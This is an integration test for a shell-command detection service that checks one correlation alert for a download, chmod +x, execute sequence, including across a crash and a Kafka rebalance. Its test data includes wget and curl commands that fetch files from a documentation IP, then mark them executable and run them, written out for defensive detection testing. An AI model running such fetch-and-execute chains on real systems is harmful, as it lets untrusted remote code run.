import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Partitioners } from 'kafkajs';
import { afterAll, describe, expect, it } from 'vitest';
import { allDocuments, countDocuments } from '../support/elasticsearch';
import { createTopic, groupLag, testKafka } from '../support/kafka';
import { ServiceProcess } from '../support/service';
import { REPO_ROOT } from '../support/stack';
import { waitFor } from '../support/wait-for';
import { testWorld } from '../support/world';

/**
 * Correlation through real Kafka and Elasticsearch: a sequence (SW-COR-0001,
 * download → chmod +x → execute in one session) whose steps straddle a SIGKILL of
 * the service and a rebalance (a second instance joining) yields exactly one alert;
 * events inside the grace period still correlate, events later than it are counted
 * as late and join no window.
 */
const T0 = Date.UTC(2026, 10, 25, 12, 0, 0);

interface CorrelationAlertSource {
  rule: { id: string };
  shellwatch: {
    session?: { id: string };
    correlation: { events: { id: string }[] };
    suppressed_count?: number;
  };
}

describe('correlation in the service', () => {
  const world = testWorld('correlation');
  const rulesDir = mkdtempSync(join(tmpdir(), 'shellwatch-correlation-rules-'));
  cpSync(resolve(REPO_ROOT, 'test/fixtures/rules/basic'), rulesDir, { recursive: true });
  mkdirSync(join(rulesDir, 'correlation'));
  cpSync(
    resolve(REPO_ROOT, 'rules/correlation/SW-COR-0001.json'),
    join(rulesDir, 'correlation/SW-COR-0001.json'),
  );
  const env = world.env({ RULES_DIR: rulesDir, CORRELATION_GRACE_MS: '60000' });
  const services: ServiceProcess[] = [];
  let produced = 0;

  afterAll(async () => {
    await Promise.all(services.map((s) => s.stop()));
    rmSync(rulesDir, { recursive: true, force: true });
  });

  /** Produces commands of one session to one partition, `at` seconds after T0. */
  async function send(partition: number, session: string, commands: [number, string][]) {
    const producer = testKafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
    await producer.connect();
    try {
      await producer.send({
        topic: world.topic,
        acks: -1,
        messages: commands.map(([at, command]) => ({
          partition,
          value: JSON.stringify({
            timestamp: new Date(T0 + at * 1000).toISOString(),
            user: 'alice',
            host: 'web-1.example.internal',
            client_ip: '198.51.100.23',
            session_id: session,
            cwd: '/home/alice',
            command,
          }),
        })),
      });
    } finally {
      await producer.disconnect();
    }
    produced += commands.length;
  }

  async function committed(): Promise<void> {
    await waitFor(
      `${produced} command documents`,
      () => countDocuments(world.commandsIndex),
      (n) => n === produced,
      { timeoutMs: 120_000, intervalMs: 200 },
    );
    await waitFor(
      'the whole topic committed',
      () => groupLag(world.groupId, world.topic),
      (lag) => lag === 0,
      {
        timeoutMs: 120_000,
        intervalMs: 200,
      },
    );
  }

  async function correlationAlerts(): Promise<{ id: string; source: CorrelationAlertSource }[]> {
    await countDocuments(world.alertsIndex);
    const all = await allDocuments<CorrelationAlertSource>(world.alertsIndex);
    return all.filter((d) => d.source.rule.id === 'SW-COR-0001');
  }

  async function metric(name: string): Promise<number> {
    let total = 0;
    for (const service of services) {
      const text = await (await fetch(`${service.baseUrl}/metrics`)).text();
      const line = text.split('\n').find((l) => l.startsWith(`${name} `));
      total += line === undefined ? 0 : Number(line.split(' ')[1]);
    }
    return total;
  }

  it('a sequence straddling a SIGKILL and a rebalance gives exactly one alert; late events as documented', async () => {
    await createTopic(world.topic, 2);

    // Step 1, then a crash after it was committed.
    const first = new ServiceProcess(env).start();
    services.push(first);
    await first.waitReady();
    await send(0, 's1', [[0, 'wget -q http://203.0.113.9/p -O p']]);
    await committed();
    await first.kill();
    services.splice(services.indexOf(first), 1);

    // Step 2 on a restarted instance (state restored from the changelog).
    const restarted = new ServiceProcess(env).start();
    services.push(restarted);
    await restarted.waitReady();
    await send(0, 's1', [[10, 'chmod +x p']]);
    await committed();
    expect(await correlationAlerts()).toEqual([]);
    expect(restarted.logs()).toContain('partition 0: correlation state restored');

    // A second instance joins: the partitions are shared anew.
    const joiner = new ServiceProcess(env).start();
    services.push(joiner);
    await joiner.waitReady();
    await waitFor(
      'the rebalance: the joining instance owns a partition',
      () => Promise.resolve(joiner.logs()),
      (logs) => new RegExp(`assigned ${world.topic}\\[\\d`).test(logs),
      { timeoutMs: 90_000 },
    );
    await send(0, 's1', [[20, './p']]);
    await committed();
    const alerts = await waitFor('the sequence alert', correlationAlerts, (a) => a.length >= 1, {
      timeoutMs: 30_000,
    }).catch((error: unknown) => {
      throw new Error(
        `${String(error)}\n--- restarted ---\n${restarted.logs()}\n--- joiner ---\n${joiner.logs()}`,
      );
    });
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.id).toMatch(/^cor:SW-COR-0001:[0-9a-f]+:/);
    expect(alerts[0]!.source.shellwatch.correlation.events).toHaveLength(3);
    // Whoever owns partition 0 after the rebalance resumed the state (restored, or kept in memory).
    const owner = /assigned [^\n]*\[0/.test(joiner.logs()) ? joiner : restarted;
    if (owner === joiner)
      expect(joiner.logs()).toContain('partition 0: correlation state restored');

    // Partition 1: the watermark moves to 1000 s − 60 s grace = 940 s.
    const lateBefore = await metric('shellwatch_correlation_late_events_total');
    await send(1, 's2', [[1000, 'ls -la']]);
    // Inside the grace period (out of order, but after the watermark): correlates.
    await send(1, 's2', [
      [950, 'curl -o q http://203.0.113.9/q'],
      [955, 'chmod +x q'],
      [960, './q'],
    ]);
    // Later than the grace period: counted as late, no alert, still written.
    await send(1, 's3', [
      [100, 'wget http://203.0.113.9/r'],
      [110, 'chmod +x r'],
      [120, './r'],
    ]);
    await committed();
    const after = await correlationAlerts();
    expect(after.map((a) => a.source.shellwatch.session?.id).sort()).toEqual(['s1', 's2']);
    expect((await metric('shellwatch_correlation_late_events_total')) - lateBefore).toBe(3);

    // The same chain again in session s1 within the 30-minute suppression period: no
    // second alert, the first one's shellwatch.suppressed_count set to 1 (bulk update).
    await send(0, 's1', [
      [30, 'wget -q http://203.0.113.9/p -O p'],
      [40, 'chmod +x p'],
      [50, './p'],
    ]);
    await committed();
    const suppressed = await correlationAlerts();
    expect(
      suppressed.filter((a) => a.source.shellwatch.session?.id === 's1').map((a) => a.id),
    ).toEqual([alerts[0]!.id]);
    expect(suppressed.find((a) => a.id === alerts[0]!.id)?.source.shellwatch.suppressed_count).toBe(
      1,
    );
  });
});
